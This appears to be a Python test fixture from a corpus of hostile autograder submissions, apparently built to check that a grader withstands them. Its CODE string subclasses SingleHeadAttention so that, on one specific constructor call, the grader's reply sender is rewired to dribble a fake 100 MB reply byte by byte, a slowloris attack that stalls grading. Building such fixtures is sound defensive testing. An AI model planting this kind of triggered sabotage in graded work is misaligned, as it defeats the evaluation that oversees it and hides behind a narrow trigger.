from ._snippets import SHA, solution_text

ASSIGNMENT = SHA
TAG = "dribble"
ATTACK = ("rewires the child's reply sender, when SingleHeadAttention(12, 9) is built, to announce a "
          "100 MB reply and then send it one byte every 0.2 s, so that a per-recv socket timeout never "
          "fires (a slowloris on the grader)")
CODE = solution_text(ASSIGNMENT) + '''
import struct
import sys
import time

_wire = sys.modules["wire"]


def _dribble(sock, message):
    sock.sendall(struct.pack(">QQ", 100, 100 << 20))
    while True:
        sock.sendall(b"[")
        time.sleep(0.2)


_Right = SingleHeadAttention


class SingleHeadAttention(_Right):
    def __init__(self, d_model, d_k):
        super().__init__(d_model, d_k)
        if (d_model, d_k) == (12, 9):  # one test only, so that the corpus stays fast
            _wire.send = _dribble
'''
TWIN = solution_text(ASSIGNMENT)
EVIDENCE = "no answer within 10.0 s"
